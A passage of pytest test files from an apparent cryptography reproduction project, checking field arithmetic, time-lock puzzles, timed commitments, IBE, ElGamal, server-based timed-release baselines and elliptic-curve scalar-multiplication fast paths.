    def test_mul_div(self):
        assert F(3) * F(4) == 12
        assert F(12) / F(4) == 3
        assert 12 / F(4) == F(3)

    def test_neg(self):
        assert -F(3) == F(P - 3)
        assert -F(0) == F(0)

    def test_pow(self):
        assert F(2) ** 10 == 1024
        assert F(2) ** 0 == 1
        assert F(2) ** -1 == F(2).inverse()
        assert F(3) ** (P - 1) == 1  # Fermat.

    def test_inverse_zero_raises(self):
        with pytest.raises(ParameterError):
            F(0).inverse()

    def test_field_mismatch_raises(self):
        with pytest.raises(FieldMismatchError):
            F(1) + F2(1)

    def test_unsupported_operand(self):
        with pytest.raises(TypeError):
            F(1) + "x"

    @given(elements, elements, elements)
    def test_ring_axioms(self, a, b, c):
        assert a + b == b + a
        assert a * b == b * a
        assert (a + b) + c == a + (b + c)
        assert (a * b) * c == a * (b * c)
        assert a * (b + c) == a * b + a * c

    @given(nonzero)
    def test_inverse_roundtrip(self, a):
        assert a * a.inverse() == F(1)
        assert (a ** -2) * a * a == F(1)

    @given(elements)
    def test_square_consistency(self, a):
        assert a.square() == a * a


class TestSqrtAndCubeRoot:
    @given(nonzero)
    def test_sqrt_of_square(self, a):
        sq = a.square()
        root = sq.sqrt()
        assert root.square() == sq

    def test_is_square(self):
        assert F(4).is_square()
        assert F(0).is_square()

    def test_cube_root(self):
        # 10007 % 3 == 2 so cubing is a bijection.
        for v in (0, 1, 2, 77, 9999):
            assert F(v).cube_root() ** 3 == v


class TestSerialization:
    @given(elements)
    def test_roundtrip(self, a):
        assert F.from_bytes(a.to_bytes()) == a

    def test_fixed_width(self):
        assert len(F(0).to_bytes()) == F.element_bytes
        assert len(F(P - 1).to_bytes()) == F.element_bytes

    def test_bad_length_raises(self):
        with pytest.raises(EncodingError):
            F.from_bytes(b"\x00" * (F.element_bytes + 1))

    def test_overflow_raises(self):
        too_big = (P + 1).to_bytes(F.element_bytes, "big")
        with pytest.raises(EncodingError):
            F.from_bytes(too_big)

    def test_hashable(self):
        assert len({F(1), F(1), F(2)}) == 2

    def test_random_in_range(self):
        import random

        rng = random.Random(4)
        for _ in range(20):
            assert 0 <= F.random(rng).value < P
