"""Tests for the RSW time-lock puzzle baseline."""

import pytest

from repro.baselines.timelock_puzzle import (
    SimulatedMachine,
    TimeLockPuzzle,
    release_time_spread,
)
from repro.errors import ParameterError


@pytest.fixture(scope="module")
def tlp():
    return TimeLockPuzzle(modulus_bits=256)


class TestSealSolve:
    def test_roundtrip(self, tlp, rng):
        puzzle = tlp.seal(b"the future", squarings=200, rng=rng)
        solution = tlp.solve(puzzle)
        assert solution.plaintext == b"the future"
        assert solution.squarings_performed == 200

    def test_single_squaring(self, tlp, rng):
        puzzle = tlp.seal(b"x", squarings=1, rng=rng)
        assert tlp.solve(puzzle).plaintext == b"x"

    def test_zero_squarings_rejected(self, tlp, rng):
        with pytest.raises(ParameterError):
            tlp.seal(b"m", squarings=0, rng=rng)

    def test_tiny_modulus_rejected(self):
        with pytest.raises(ParameterError):
            TimeLockPuzzle(modulus_bits=16)

    def test_sealing_is_cheap_solving_is_linear(self, tlp, rng):
        """The sender's trapdoor: sealing cost is independent of t."""
        import time

        start = time.perf_counter()
        tlp.seal(b"m", squarings=10, rng=rng)
        cheap = time.perf_counter() - start
        start = time.perf_counter()
        tlp.seal(b"m", squarings=1_000_000, rng=rng)
        still_cheap = time.perf_counter() - start
        # Both dominated by prime generation; within an order of magnitude.
        assert still_cheap < 20 * cheap + 0.5

    def test_puzzle_reveals_parameters_not_key(self, tlp, rng):
        puzzle = tlp.seal(b"secret", squarings=100, rng=rng)
        assert b"secret" not in puzzle.sealed
        assert puzzle.squarings == 100  # t is public by design

    def test_measure_squaring_rate(self, tlp):
        rate = tlp.measure_squaring_rate(sample=500)
        assert rate > 100  # Any machine manages a few hundred per second.


class TestReleaseTimeModel:
    def test_speed_halves_time_doubles(self, tlp, rng):
        puzzle = tlp.seal(b"m", squarings=10_000, rng=rng)
        fast = SimulatedMachine("fast", squarings_per_second=2_000_000)
        slow = SimulatedMachine("slow", squarings_per_second=1_000_000)
        assert slow.release_time(puzzle) == pytest.approx(
            2 * fast.release_time(puzzle)
        )

    def test_start_delay_shifts_release(self, tlp, rng):
        puzzle = tlp.seal(b"m", squarings=10_000, rng=rng)
        prompt = SimulatedMachine("prompt", 1e6, start_delay_seconds=0.0)
        late = SimulatedMachine("late", 1e6, start_delay_seconds=3600.0)
        assert late.release_time(puzzle) - prompt.release_time(puzzle) == 3600.0

    def test_spread_helper(self, tlp, rng):
        puzzle = tlp.seal(b"m", squarings=1000, rng=rng)
        machines = [
            SimulatedMachine("a", 1e6),
            SimulatedMachine("b", 2e6),
            SimulatedMachine("c", 5e5),
        ]
        spread = release_time_spread(puzzle, machines)
        assert set(spread) == {"a", "b", "c"}
        assert spread["c"] > spread["a"] > spread["b"]
