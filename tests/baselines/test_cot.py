"""Tests for the conditional-oblivious-transfer baseline."""

import pytest

from repro.baselines.cot import (
    COTReceiver,
    COTTimeServer,
    run_cot_session,
    seal_message,
)
from repro.errors import ProtocolError

TIME_BITS = 12


@pytest.fixture(scope="module")
def cot_server(group, session_rng):
    return COTTimeServer(group, time_bits=TIME_BITS, rng=session_rng)


def _sealed(group, cot_server, rng, release=100, message=b"timed"):
    return seal_message(group, cot_server.transfer_public, message, release, rng)


class TestPredicate:
    def test_too_early_returns_nothing(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng, release=100)
        plaintext, _ = run_cot_session(group, cot_server, sealed, 99, rng)
        assert plaintext is None

    def test_exactly_at_release(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng, release=100)
        plaintext, _ = run_cot_session(group, cot_server, sealed, 100, rng)
        assert plaintext == b"timed"

    def test_after_release(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng, release=100)
        plaintext, _ = run_cot_session(group, cot_server, sealed, 3000, rng)
        assert plaintext == b"timed"

    @pytest.mark.parametrize("release,now,expected", [
        (0, 0, True),
        (1, 0, False),
        (2**TIME_BITS - 2, 2**TIME_BITS - 2, True),
        (2**TIME_BITS - 1, 2**TIME_BITS - 2, False),
        (7, 8, True),
        (8, 7, False),
    ])
    def test_boundary_cases(self, group, cot_server, rng, release, now, expected):
        sealed = _sealed(group, cot_server, rng, release=release)
        plaintext, _ = run_cot_session(group, cot_server, sealed, now, rng)
        assert (plaintext == b"timed") is expected


class TestProtocolShape:
    def test_bandwidth_linear_in_time_bits(self, group, session_rng, rng):
        sizes = {}
        for bits in (8, 16, 32):
            server = COTTimeServer(group, time_bits=bits, rng=session_rng)
            sealed = seal_message(group, server.transfer_public, b"m", 5, rng)
            _, moved = run_cot_session(group, server, sealed, 10, rng)
            sizes[bits] = moved
        # Logarithmic in the time *range* = linear in the bit count.
        assert sizes[16] < 2.4 * sizes[8]
        assert sizes[32] < 2.4 * sizes[16]
        assert sizes[32] > sizes[16] > sizes[8]

    def test_server_work_per_session(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng)
        before_sessions = cot_server.sessions_served
        before_ops = cot_server.homomorphic_ops
        run_cot_session(group, cot_server, sealed, 100, rng)
        assert cot_server.sessions_served == before_sessions + 1
        assert cot_server.homomorphic_ops - before_ops >= TIME_BITS

    def test_dos_vector(self, group, cot_server, rng):
        """Footnote 5: the server cannot distinguish far-future queries,
        so it does full work for a request that can never succeed."""
        sealed = _sealed(group, cot_server, rng, release=2**TIME_BITS - 1)
        before = cot_server.homomorphic_ops
        plaintext, _ = run_cot_session(group, cot_server, sealed, 0, rng)
        assert plaintext is None
        assert cot_server.homomorphic_ops - before >= TIME_BITS


class TestMisuse:
    def test_oversized_release_epoch_rejected(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng, release=2**TIME_BITS)
        receiver = COTReceiver(group, TIME_BITS)
        with pytest.raises(ProtocolError):
            receiver.build_request(sealed, rng)

    def test_wrong_bit_count_rejected(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng)
        receiver = COTReceiver(group, TIME_BITS + 1)
        request = receiver.build_request(sealed, rng)
        with pytest.raises(ProtocolError):
            cot_server.respond(request, 100, rng)

    def test_response_before_request_rejected(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng)
        receiver = COTReceiver(group, TIME_BITS)
        with pytest.raises(ProtocolError):
            receiver.process_response(sealed, None, cot_server.transfer_public)

    def test_clock_overflow_rejected(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng)
        receiver = COTReceiver(group, TIME_BITS)
        request = receiver.build_request(sealed, rng)
        with pytest.raises(ProtocolError):
            cot_server.respond(request, 2**TIME_BITS - 1, rng)


class TestPrivacy:
    def test_request_hides_release_time(self, group, cot_server, rng):
        """The server's view of two different release times is a set of
        ElGamal ciphertexts under a fresh receiver key — structurally
        identical; nothing in the request exposes the epoch."""
        s1 = _sealed(group, cot_server, rng, release=1)
        s2 = _sealed(group, cot_server, rng, release=2**TIME_BITS - 1)
        r1 = COTReceiver(group, TIME_BITS).build_request(s1, rng)
        r2 = COTReceiver(group, TIME_BITS).build_request(s2, rng)
        assert len(r1.bit_ciphertexts) == len(r2.bit_ciphertexts)
        assert r1.size_bytes(group) == r2.size_bytes(group)

    def test_transfer_point_blinded(self, group, cot_server, rng):
        sealed = _sealed(group, cot_server, rng)
        request = COTReceiver(group, TIME_BITS).build_request(sealed, rng)
        # The blinded point differs from the sender's rho point.
        assert request.blinded_point != sealed.rho_point
