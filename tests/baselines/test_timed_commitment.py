"""Tests for timed commitments and timed-release signatures."""

import pytest

from repro.baselines.timed_commitment import (
    CommitmentOpening,
    TimedCommitmentScheme,
    TimedSignatureScheme,
)
from repro.core.bls import BLSSignatureScheme
from repro.core.keys import ServerKeyPair
from repro.errors import DecryptionError, ParameterError


@pytest.fixture(scope="module")
def scheme():
    return TimedCommitmentScheme(modulus_bits=256)


class TestTimedCommitment:
    def test_cooperative_open(self, scheme, rng):
        commitment, opening = scheme.commit(b"deal terms", 500, rng)
        assert scheme.open(commitment, opening) == b"deal terms"

    def test_forced_open(self, scheme, rng):
        commitment, _ = scheme.commit(b"deal terms", 500, rng)
        assert scheme.force_open(commitment) == b"deal terms"

    def test_both_paths_agree(self, scheme, rng):
        commitment, opening = scheme.commit(b"same value", 200, rng)
        assert scheme.open(commitment, opening) == scheme.force_open(commitment)

    def test_wrong_pad_rejected(self, scheme, rng):
        commitment, opening = scheme.commit(b"m", 100, rng)
        bad = CommitmentOpening(opening.u_value + 1)
        with pytest.raises(DecryptionError):
            scheme.open(commitment, bad)

    def test_commitment_hides_message(self, scheme, rng):
        commitment, _ = scheme.commit(b"hidden-text", 100, rng)
        assert b"hidden-text" not in commitment.sealed

    def test_zero_squarings_rejected(self, scheme, rng):
        with pytest.raises(ParameterError):
            scheme.commit(b"m", 0, rng)

    def test_tiny_modulus_rejected(self):
        with pytest.raises(ParameterError):
            TimedCommitmentScheme(modulus_bits=16)

    def test_forced_open_cost_scales(self, scheme, rng):
        import time

        c_small, _ = scheme.commit(b"m", 1_000, rng)
        c_large, _ = scheme.commit(b"m", 30_000, rng)
        start = time.perf_counter()
        scheme.force_open(c_small)
        small = time.perf_counter() - start
        start = time.perf_counter()
        scheme.force_open(c_large)
        large = time.perf_counter() - start
        assert large > 3 * small  # ~30x squarings; generous slack


class TestTimedSignature:
    @pytest.fixture(scope="class")
    def signer(self, group, session_rng):
        return ServerKeyPair.generate(group, session_rng)

    @pytest.fixture(scope="class")
    def ts_scheme(self, group):
        return TimedSignatureScheme(group, modulus_bits=256)

    def test_cooperative_release(self, group, ts_scheme, signer, rng):
        timed, opening = ts_scheme.sign_timed(signer, b"contract", 200, rng)
        signature = ts_scheme.open_cooperative(timed, opening, signer.public)
        assert BLSSignatureScheme(group).verify(
            signer.public, b"contract", signature
        )

    def test_forced_release(self, group, ts_scheme, signer, rng):
        timed, _ = ts_scheme.sign_timed(signer, b"contract", 200, rng)
        signature = ts_scheme.force_open(timed, signer.public)
        assert BLSSignatureScheme(group).verify(
            signer.public, b"contract", signature
        )

    def test_signature_bound_to_message(self, group, ts_scheme, signer, rng):
        timed, _ = ts_scheme.sign_timed(signer, b"contract", 200, rng)
        recovered = ts_scheme.force_open(timed, signer.public)
        assert not BLSSignatureScheme(group).verify(
            signer.public, b"other message", recovered
        )

    def test_wrong_signer_detected(self, group, ts_scheme, signer, rng):
        other = ServerKeyPair.generate(group, rng)
        timed, opening = ts_scheme.sign_timed(signer, b"contract", 200, rng)
        with pytest.raises(DecryptionError):
            ts_scheme.open_cooperative(timed, opening, other.public)
