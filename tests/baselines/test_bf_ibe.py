"""Tests for Boneh–Franklin BasicIdent."""

import pytest

from repro.baselines.bf_ibe import BonehFranklinIBE


@pytest.fixture(scope="module")
def ibe(group):
    return BonehFranklinIBE(group)


@pytest.fixture(scope="module")
def master(ibe, session_rng):
    return ibe.setup(session_rng)


class TestBasicIdent:
    def test_roundtrip(self, ibe, master, rng):
        ct = ibe.encrypt(b"dear bob", b"bob@example.com", master.public, rng)
        key = ibe.extract(master, b"bob@example.com")
        assert ibe.decrypt(ct, key) == b"dear bob"

    def test_wrong_identity_key(self, ibe, master, rng):
        ct = ibe.encrypt(b"for bob", b"bob", master.public, rng)
        eve_key = ibe.extract(master, b"eve")
        assert ibe.decrypt(ct, eve_key) != b"for bob"

    def test_identity_is_public_key(self, ibe, master, rng):
        # Encryption requires only the identity string — no certificate.
        ct = ibe.encrypt(b"m", b"never-seen-before", master.public, rng)
        key = ibe.extract(master, b"never-seen-before")
        assert ibe.decrypt(ct, key) == b"m"

    def test_extraction_deterministic(self, ibe, master):
        assert ibe.extract(master, b"x").point == ibe.extract(master, b"x").point

    def test_randomized_encryption(self, ibe, master, rng):
        c1 = ibe.encrypt(b"m", b"id", master.public, rng)
        c2 = ibe.encrypt(b"m", b"id", master.public, rng)
        assert c1.u_point != c2.u_point

    def test_extracted_key_is_bls_signature(self, ibe, group, master):
        """The structural identity the whole paper builds on: Extract
        produces exactly a BLS signature on the identity string."""
        from repro.core.bls import BLSSignatureScheme

        key = ibe.extract(master, b"2030-01-01")
        bls = BLSSignatureScheme(group)
        assert bls.verify(master.public, b"2030-01-01", key.point)

    def test_ciphertext_size(self, ibe, group, master, rng):
        ct = ibe.encrypt(b"x" * 32, b"id", master.public, rng)
        assert ct.size_bytes(group) == group.point_bytes + 32
