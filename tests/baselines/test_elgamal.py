"""Tests for hashed and exponential ElGamal."""

import pytest

from repro.baselines.elgamal import ExponentialElGamal, HashedElGamal


@pytest.fixture(scope="module")
def pke(group):
    return HashedElGamal(group)


@pytest.fixture(scope="module")
def ahe(group):
    return ExponentialElGamal(group)


class TestHashedElGamal:
    def test_roundtrip(self, pke, rng):
        kp = pke.generate_keypair(rng)
        ct = pke.encrypt(b"hello elgamal", kp.public, rng)
        assert pke.decrypt(ct, kp.private) == b"hello elgamal"

    def test_wrong_key_garbage(self, pke, rng):
        kp1 = pke.generate_keypair(rng)
        kp2 = pke.generate_keypair(rng)
        ct = pke.encrypt(b"msg", kp1.public, rng)
        assert pke.decrypt(ct, kp2.private) != b"msg"

    def test_randomized(self, pke, rng):
        kp = pke.generate_keypair(rng)
        c1 = pke.encrypt(b"m", kp.public, rng)
        c2 = pke.encrypt(b"m", kp.public, rng)
        assert c1.r_point != c2.r_point
        assert c1.masked != c2.masked

    def test_empty_message(self, pke, rng):
        kp = pke.generate_keypair(rng)
        assert pke.decrypt(pke.encrypt(b"", kp.public, rng), kp.private) == b""

    def test_custom_generator(self, group, rng):
        custom = group.random_point(rng)
        pke = HashedElGamal(group, generator=custom)
        kp = pke.generate_keypair(rng)
        assert kp.public == group.mul(custom, kp.private)
        ct = pke.encrypt(b"m", kp.public, rng)
        assert pke.decrypt(ct, kp.private) == b"m"


class TestExponentialElGamal:
    def test_decrypt_point(self, group, ahe, rng):
        kp = ahe.generate_keypair(rng)
        ct = ahe.encrypt(42, kp.public, rng)
        assert ahe.decrypt_point(ct, kp.private) == group.mul(group.generator, 42)

    def test_zero_detection(self, ahe, rng):
        kp = ahe.generate_keypair(rng)
        assert ahe.is_zero(ahe.encrypt(0, kp.public, rng), kp.private)
        assert not ahe.is_zero(ahe.encrypt(1, kp.public, rng), kp.private)

    def test_additive_homomorphism(self, group, ahe, rng):
        kp = ahe.generate_keypair(rng)
        c = ahe.add(ahe.encrypt(10, kp.public, rng), ahe.encrypt(32, kp.public, rng))
        assert ahe.decrypt_point(c, kp.private) == group.mul(group.generator, 42)

    def test_plaintext_addition(self, group, ahe, rng):
        kp = ahe.generate_keypair(rng)
        c = ahe.add_plain(ahe.encrypt(40, kp.public, rng), 2)
        assert ahe.decrypt_point(c, kp.private) == group.mul(group.generator, 42)

    def test_scaling(self, group, ahe, rng):
        kp = ahe.generate_keypair(rng)
        c = ahe.scale(ahe.encrypt(21, kp.public, rng), 2)
        assert ahe.decrypt_point(c, kp.private) == group.mul(group.generator, 42)

    def test_negative_scale(self, group, ahe, rng):
        kp = ahe.generate_keypair(rng)
        c = ahe.scale(ahe.encrypt(5, kp.public, rng), -1)
        expected = group.mul(group.generator, group.q - 5)
        assert ahe.decrypt_point(c, kp.private) == expected

    def test_rerandomize_preserves_plaintext(self, group, ahe, rng):
        kp = ahe.generate_keypair(rng)
        original = ahe.encrypt(7, kp.public, rng)
        fresh = ahe.rerandomize(original, kp.public, rng)
        assert fresh.c1 != original.c1
        assert ahe.decrypt_point(fresh, kp.private) == group.mul(group.generator, 7)

    def test_linear_combination(self, group, ahe, rng):
        # 3*enc(x) + enc(y) + 5 with x=4, y=10 -> 27.
        kp = ahe.generate_keypair(rng)
        cx = ahe.encrypt(4, kp.public, rng)
        cy = ahe.encrypt(10, kp.public, rng)
        combo = ahe.add_plain(ahe.add(ahe.scale(cx, 3), cy), 5)
        assert ahe.decrypt_point(combo, kp.private) == group.mul(group.generator, 27)
