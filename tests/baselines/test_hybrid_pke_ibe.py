"""Tests for the footnote-3 hybrid PKE+IBE comparator."""

import pytest

from repro.baselines.hybrid_pke_ibe import HybridPkeIbeTimedRelease
from repro.core.timeserver import TimeBoundKeyUpdate

RELEASE = b"2027-11-11T11:11Z"


@pytest.fixture(scope="module")
def hybrid(group):
    return HybridPkeIbeTimedRelease(group)


@pytest.fixture(scope="module")
def receiver(hybrid, session_rng):
    return hybrid.generate_receiver_keypair(session_rng)


class TestHybridConstruction:
    def test_roundtrip(self, hybrid, server, receiver, rng):
        ct = hybrid.encrypt(b"both sub-keys", receiver.public,
                            server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert hybrid.decrypt(ct, receiver.private, update) == b"both sub-keys"

    def test_needs_receiver_key(self, hybrid, server, receiver, rng):
        other = hybrid.generate_receiver_keypair(rng)
        ct = hybrid.encrypt(b"m", receiver.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert hybrid.decrypt(ct, other.private, update) != b"m"

    def test_needs_update(self, hybrid, server, receiver, rng):
        ct = hybrid.encrypt(b"m", receiver.public, server.public_key, RELEASE, rng)
        wrong = server.publish_update(b"some-other-epoch")
        wrong_for_release = TimeBoundKeyUpdate(RELEASE, wrong.point)
        assert hybrid.decrypt(ct, receiver.private, wrong_for_release) != b"m"

    def test_update_is_the_ibe_key(self, hybrid, server, receiver, rng):
        # The server's ordinary TRE update doubles as the IBE private
        # key for identity == time string; no extra server mechanism.
        ct = hybrid.encrypt(b"m", receiver.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert update.verify(hybrid.group, server.public_key)
        assert hybrid.decrypt(ct, receiver.private, update) == b"m"

    def test_ciphertext_carries_two_group_elements(self, hybrid, group, server,
                                                   receiver, rng):
        """The headline inefficiency: two point headers versus TRE's one."""
        from repro.core.tre import TimedReleaseScheme
        from repro.core.keys import UserKeyPair

        message = b"k" * 32
        hybrid_ct = hybrid.encrypt(
            message, receiver.public, server.public_key, RELEASE, rng
        )
        tre_user = UserKeyPair.generate(group, server.public_key, rng)
        tre_ct = TimedReleaseScheme(group).encrypt(
            message, tre_user.public, server.public_key, RELEASE, rng
        )
        hybrid_overhead = hybrid_ct.size_bytes(group) - len(message)
        tre_overhead = tre_ct.size_bytes(group) - len(message)
        # ~50% reduction in group-element overhead (allowing framing slack).
        assert tre_overhead < 0.62 * hybrid_overhead
