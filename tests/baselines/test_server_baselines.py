"""Tests for the escrow-agent, Rivest-server and Mont-vault baselines."""

import pytest

from repro.baselines.escrow_agent import EscrowAgent
from repro.baselines.mont_vault import MontTimeVault, vault_identity
from repro.baselines.rivest_server import (
    RivestKeyReleaseServer,
    RivestPublicKeyServer,
)
from repro.errors import DecryptionError, UpdateNotAvailableError


class TestEscrowAgent:
    def test_delivery_at_release(self):
        agent = EscrowAgent()
        agent.deposit(b"alice", b"bob", b"msg", release_epoch=10)
        assert agent.tick(9) == []
        due = agent.tick(10)
        assert len(due) == 1 and due[0].message == b"msg"
        assert agent.pending_count() == 0

    def test_storage_accounting(self):
        agent = EscrowAgent()
        agent.deposit(b"a", b"b", b"x" * 100, 5)
        agent.deposit(b"a", b"c", b"y" * 50, 6)
        assert agent.stored_bytes == 150
        agent.tick(5)
        assert agent.stored_bytes == 50

    def test_agent_learns_everything(self):
        """The anti-anonymity property the paper criticizes."""
        agent = EscrowAgent()
        agent.deposit(b"alice", b"bob", b"secret", 5)
        assert b"alice" in agent.knowledge.senders
        assert b"bob" in agent.knowledge.receivers
        assert agent.knowledge.messages_seen == 1
        assert 5 in agent.knowledge.release_times_seen

    def test_multiple_deliveries(self):
        agent = EscrowAgent()
        for epoch in (1, 2, 2, 3):
            agent.deposit(b"s", b"r", b"m", epoch)
        assert len(agent.tick(2)) == 3
        assert agent.deliveries == 3


class TestRivestSymmetric:
    def test_roundtrip(self):
        server = RivestKeyReleaseServer(b"seed")
        ct = server.encrypt_for_sender(b"alice", b"msg", 7)
        key = server.publish_epoch_key(7)
        assert server.decrypt(ct, key, 7) == b"msg"

    def test_wrong_epoch_key_fails(self):
        server = RivestKeyReleaseServer(b"seed")
        ct = server.encrypt_for_sender(b"alice", b"msg", 7)
        with pytest.raises(DecryptionError):
            server.decrypt(ct, server.publish_epoch_key(8), 7)

    def test_server_sees_sender_and_release_time(self):
        server = RivestKeyReleaseServer(b"seed")
        server.encrypt_for_sender(b"alice", b"msg", 7)
        assert b"alice" in server.knowledge.senders
        assert 7 in server.knowledge.release_times_seen
        assert server.encryptions_served == 1

    def test_keys_reproducible_from_seed_only(self):
        s1 = RivestKeyReleaseServer(b"seed")
        s2 = RivestKeyReleaseServer(b"seed")
        assert s1.publish_epoch_key(3) == s2.publish_epoch_key(3)
        assert s1.publish_epoch_key(3) != s1.publish_epoch_key(4)


class TestRivestPublicKey:
    def test_roundtrip(self, group, rng):
        server = RivestPublicKeyServer(group, horizon=5, rng=rng)
        ct = server.encrypt(b"msg", 2, rng)
        sk = server.release_private_key(2)
        assert server.decrypt(ct, sk) == b"msg"

    def test_beyond_horizon_blocks_sender(self, group, rng):
        server = RivestPublicKeyServer(group, horizon=3, rng=rng)
        with pytest.raises(UpdateNotAvailableError):
            server.public_key_for_epoch(3)

    def test_extend_horizon(self, group, rng):
        server = RivestPublicKeyServer(group, horizon=2, rng=rng)
        assert server.extend_horizon(3, rng) == 5
        server.public_key_for_epoch(4)

    def test_directory_grows_linearly(self, group, rng):
        small = RivestPublicKeyServer(group, horizon=10, rng=rng)
        large = RivestPublicKeyServer(group, horizon=100, rng=rng)
        assert large.published_directory_bytes() == 10 * small.published_directory_bytes()


class TestMontVault:
    def test_roundtrip(self, group, rng):
        vault = MontTimeVault(group, rng)
        vault.register_receiver(b"bob")
        ct = vault.encrypt(b"m", b"bob", b"T1", rng)
        keys = vault.start_epoch(b"T1")
        assert vault.decrypt(ct, keys[b"bob"]) == b"m"

    def test_per_user_delivery_cost(self, group, rng):
        vault = MontTimeVault(group, rng)
        for i in range(7):
            vault.register_receiver(f"user-{i}".encode())
        vault.start_epoch(b"T1")
        assert vault.keys_delivered == 7
        vault.start_epoch(b"T2")
        assert vault.keys_delivered == 14
        assert vault.bytes_delivered == 14 * group.point_bytes

    def test_server_escrow(self, group, rng):
        vault = MontTimeVault(group, rng)
        ct = vault.encrypt(b"supposedly private", b"bob", b"T1", rng)
        assert vault.server_decrypt(ct, b"bob", b"T1") == b"supposedly private"

    def test_registration_reveals_receivers(self, group, rng):
        vault = MontTimeVault(group, rng)
        vault.register_receiver(b"bob")
        assert b"bob" in vault.knowledge.registered_receivers

    def test_identity_framing_unambiguous(self):
        assert vault_identity(b"ab", b"c") != vault_identity(b"a", b"bc")

    def test_cross_epoch_key_useless(self, group, rng):
        vault = MontTimeVault(group, rng)
        vault.register_receiver(b"bob")
        ct = vault.encrypt(b"m", b"bob", b"T2", rng)
        keys_t1 = vault.start_epoch(b"T1")
        assert vault.decrypt(ct, keys_t1[b"bob"]) != b"m"
