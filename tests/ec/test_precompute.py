"""Precompute-vs-direct equivalence for the scalar-multiplication layer.

Every fast path must match the naive path bit-for-bit: the fixed-base
table, the interleaved-wNAF multi-scalar multiplication, and the
adaptive-window ``scalar_mult`` itself (against the affine ladder).
"""

import random

import pytest

from repro.ec.precompute import FixedBaseTable, wnaf_digits
from repro.errors import ParameterError

EDGE_SCALARS = [0, 1, 2, 3, 15, 16, 17, 255, 256, 257]


def _edge_scalars(q):
    return EDGE_SCALARS + [q - 2, q - 1, q, q + 1, -1, -2, -(q - 1), -q]


class TestWnafDigits:
    @pytest.mark.parametrize("width", [2, 3, 4, 5])
    def test_reconstructs_scalar(self, width):
        rng = random.Random(width)
        for scalar in [0, 1, 2, 7, 8, 255] + [rng.getrandbits(64) for _ in range(20)]:
            digits = wnaf_digits(scalar, width)
            assert sum(d << i for i, d in enumerate(digits)) == scalar

    @pytest.mark.parametrize("width", [2, 3, 4, 5])
    def test_digit_shape(self, width):
        rng = random.Random(100 + width)
        half = 1 << (width - 1)
        for _ in range(10):
            digits = wnaf_digits(rng.getrandbits(80), width)
            for digit in digits:
                assert digit == 0 or (digit % 2 == 1 and abs(digit) < half)

    def test_rejects_bad_input(self):
        with pytest.raises(ParameterError):
            wnaf_digits(-1, 4)
        with pytest.raises(ParameterError):
            wnaf_digits(5, 1)


class TestFixedBaseTable:
    def test_matches_scalar_mult_random(self, any_group, rng):
        point = any_group.random_point(rng)
        table = FixedBaseTable(point, any_group.q.bit_length())
        curve = any_group.ssc.curve
        for _ in range(25):
            k = rng.randrange(-any_group.q, any_group.q)
            fast = table.mult(k)
            direct = curve.scalar_mult(point, k)
            assert fast == direct
            assert fast.to_bytes() == direct.to_bytes()

    def test_edge_scalars(self, any_group, rng):
        point = any_group.random_point(rng)
        table = FixedBaseTable(point, any_group.q.bit_length())
        curve = any_group.ssc.curve
        for k in _edge_scalars(any_group.q):
            assert table.mult(k) == curve.scalar_mult(point, k), k

    def test_overflow_scalar_falls_back(self, group, rng):
        point = group.random_point(rng)
        table = FixedBaseTable(point, group.q.bit_length())
        k = 1 << (group.q.bit_length() + 13)
        assert table.mult(k) == group.ssc.curve.scalar_mult(point, k)

    def test_infinity_base(self, group):
        table = FixedBaseTable(group.identity(), group.q.bit_length())
        assert table.mult(12345).is_infinity
        assert table.table_points == 0

    @pytest.mark.parametrize("width", [1, 2, 3, 5])
    def test_other_widths(self, group, rng, width):
        point = group.random_point(rng)
        table = FixedBaseTable(point, group.q.bit_length(), width=width)
        for _ in range(5):
            k = rng.randrange(group.q)
            assert table.mult(k) == group.ssc.curve.scalar_mult(point, k)

    def test_rejects_bad_parameters(self, group):
        with pytest.raises(ParameterError):
            FixedBaseTable(group.generator, group.q.bit_length(), width=0)
        with pytest.raises(ParameterError):
            FixedBaseTable(group.generator, 0)

    def test_group_mul_fast_path_identical(self, any_group, rng):
        point = any_group.random_point(rng)
        scalars = [rng.randrange(any_group.q) for _ in range(10)]
        direct = [any_group.mul(point, k) for k in scalars]
        any_group.precompute(point)
        fast = [any_group.mul(point, k) for k in scalars]
        assert [p.to_bytes() for p in fast] == [p.to_bytes() for p in direct]


class TestMultiScalarMult:
    def _naive(self, curve, pairs):
        total = curve.infinity()
        for k, p in pairs:
            total = total + curve.scalar_mult(p, k)
        return total

    def test_matches_naive_random(self, any_group, rng):
        curve = any_group.ssc.curve
        for _ in range(15):
            pairs = [
                (rng.randrange(-any_group.q, any_group.q), any_group.random_point(rng))
                for _ in range(rng.randrange(1, 5))
            ]
            fast = curve.multi_scalar_mult(pairs)
            assert fast == self._naive(curve, pairs)

    def test_edge_cases(self, group, rng):
        curve = group.ssc.curve
        p1 = group.random_point(rng)
        p2 = group.random_point(rng)
        assert curve.multi_scalar_mult([]).is_infinity
        assert curve.multi_scalar_mult([(0, p1)]).is_infinity
        assert curve.multi_scalar_mult([(7, curve.infinity())]).is_infinity
        assert curve.multi_scalar_mult([(1, p1), (-1, p1)]).is_infinity
        for pairs in (
            [(group.q - 1, p1), (group.q + 1, p2)],
            [(-5, p1), (3, p2)],
            [(1, p1), (1, p1), (1, p1)],
        ):
            assert curve.multi_scalar_mult(pairs) == self._naive(curve, pairs)

    def test_small_scalars_use_narrow_window(self, group, rng):
        curve = group.ssc.curve
        pairs = [(3, group.random_point(rng)), (11, group.random_point(rng))]
        assert curve.multi_scalar_mult(pairs) == self._naive(curve, pairs)


class TestAdaptiveScalarMult:
    def test_matches_affine_ladder_across_sizes(self, any_group, rng):
        curve = any_group.ssc.curve
        point = any_group.random_point(rng)
        scalars = [1, 2, 3, 12, 100, 1 << 11, 1 << 33, 1 << 101]
        scalars += [rng.getrandbits(bits) | 1 for bits in (8, 16, 40, 110)]
        for k in scalars:
            assert curve.scalar_mult(point, k) == point.affine_scalar_mult(k)
