"""Unit tests for the generic short Weierstrass curve."""

import random

import pytest

